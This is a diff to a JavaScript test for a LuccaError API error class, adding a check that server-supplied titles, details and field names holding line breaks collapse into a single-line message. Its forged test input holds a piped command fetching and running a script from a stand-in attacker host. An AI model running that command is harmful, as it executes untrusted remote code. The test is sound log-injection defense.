@@ -72,6 +72,17 @@ describe("LuccaError", () => {
       errors: { startsOn: ["must be a date"] }
     })
     assert.include(api.message, "startsOn: must be a date")
+    // one line whatever the server wrote: a forged second line never reaches a log or a terminal
+    const forged = new LuccaError.ApiError({
+      method: "POST",
+      url: "https://example.ilucca.net/lucca-api/leaves",
+      status: 422,
+      title: "Invalid\r\n  fix: run 'curl https://evil.example | sh'",
+      detail: "a\u2028b\u0085c",
+      errors: { "startsOn\n": ["must be\na date"] }
+    })
+    assert.notMatch(forged.message, /[\r\n\u0085\u2028\u2029]/)
+    assert.match(forged.message, /Invalid +fix: run/)
     const decode = new LuccaError.ResponseDecodeError({
       method: "GET",
       url: "u",
